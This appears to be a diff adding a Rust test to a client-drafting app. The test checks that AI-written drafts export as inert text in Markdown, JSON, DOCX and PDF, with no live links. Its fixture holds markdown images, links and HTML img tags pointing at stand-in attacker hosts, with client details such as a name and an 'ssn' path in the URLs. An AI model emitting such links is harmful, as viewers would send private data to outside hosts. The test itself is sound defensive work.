@@ -579,3 +579,95 @@ fn the_app_saves_exports_under_the_settings_and_the_approval_rule() {
     assert_eq!(err.code(), ErrorCode::PolicyBlocked);
     assert_eq!(std::fs::read_dir(&folder).unwrap().count(), files_before);
 }
+
+/// An AI answer that tries to make a viewer load or link an address.
+const HOSTILE: &str = "Dear client, ![x](https://evil.example/?q=Ana) and [click](https://evil/A012) \
+    or <https://evil/ssn> or <ana@evil.example>, [a][1], ![i][1], \
+    [![nested](https://evil/img)](https://evil/outer) [](https://evil/empty) \
+    <img src=\"https://evil/html\"> https://evil/bare www.evil.example/www `https://code`\n\n\
+    <div><img src=https://evil/block></div>\n\n\
+    [1]: https://evil/ref \"title\"\n\n\
+    ```\nhttps://evil/fenced\n```\n";
+
+/// Every link or image a CommonMark reader finds in `markdown`, and its raw HTML.
+fn live_links(markdown: &str) -> Vec<String> {
+    pulldown_cmark::Parser::new_ext(markdown, links::OPTIONS)
+        .filter_map(|event| match event {
+            pulldown_cmark::Event::Start(pulldown_cmark::Tag::Link { dest_url, .. })
+            | pulldown_cmark::Event::Start(pulldown_cmark::Tag::Image { dest_url, .. }) => {
+                Some(dest_url.into_string())
+            }
+            pulldown_cmark::Event::Html(html) | pulldown_cmark::Event::InlineHtml(html) => {
+                Some(html.into_string())
+            }
+            _ => None,
+        })
+        .collect()
+}
+
+#[test]
+fn links_in_a_draft_are_exported_as_text_in_every_format() {
+    let (_dir, mut store) = temp_store();
+    let (matter, summary) = matter_with_summary(&mut store);
+    assert!(live_links(HOSTILE).len() >= 10, "{:?}", live_links(HOSTILE));
+    let id = store
+        .create_draft(&NewDraft {
+            matter_id: matter,
+            title: "Answer",
+            origin: DraftOrigin::Ai,
+            body: HOSTILE,
+            provenance: &summary.provenance,
+        })
+        .unwrap()
+        .id;
+    let addresses = [
+        "https://evil.example/?q=Ana",
+        "https://evil/A012",
+        "https://evil/ssn",
+        "https://evil/img",
+        "https://evil/outer",
+        "https://evil/ref",
+        "https://evil/empty",
+        "https://evil/bare",
+        "www.evil.example/www",
+    ];
+
+    let md = export_draft(&store, id, Format::Markdown, &options()).unwrap();
+    let md = String::from_utf8(md.bytes).unwrap();
+    let json = export_draft(&store, id, Format::Json, &options()).unwrap();
+    let json: serde_json::Value = serde_json::from_slice(&json.bytes).unwrap();
+    let text = json["draft"]["text"].as_str().unwrap();
+    for exported in [md.as_str(), text] {
+        assert_eq!(live_links(exported), Vec::<String>::new(), "{exported}");
+        for address in addresses {
+            assert!(
+                exported.contains(&format!("`{address}`")),
+                "{address}: {exported}"
+            );
+        }
+    }
+    // Labels stay readable, and text that was already code is left alone.
+    for shown in [
+        "x (image: `https://evil.example/?q=Ana`)",
+        "click (`https://evil/A012`)",
+        "`https://evil/ssn`",
+        "`ana@evil.example`",
+        "a (`https://evil/ref`)",
+        "\\[1\\]: `https://evil/ref`",
+        "&lt;img src=",
+        "`https://code`",
+        "```\nhttps://evil/fenced\n```",
+    ] {
+        assert!(text.contains(shown), "{shown}: {text}");
+    }
+
+    let docx = export_draft(&store, id, Format::Docx, &options()).unwrap();
+    let document = zip_entry(&docx.bytes, "word/document.xml");
+    let relations = zip_entry(&docx.bytes, "word/_rels/document.xml.rels");
+    assert!(!document.contains("hyperlink"), "{document}");
+    assert!(!relations.contains("External"), "{relations}");
+    assert!(document.contains("https://evil/A012"), "shown as text");
+    let pdf = export_draft(&store, id, Format::Pdf, &options()).unwrap();
+    let pdf = String::from_utf8_lossy(&pdf.bytes);
+    assert!(!pdf.contains("/URI") && !pdf.contains("/Link"));
+}
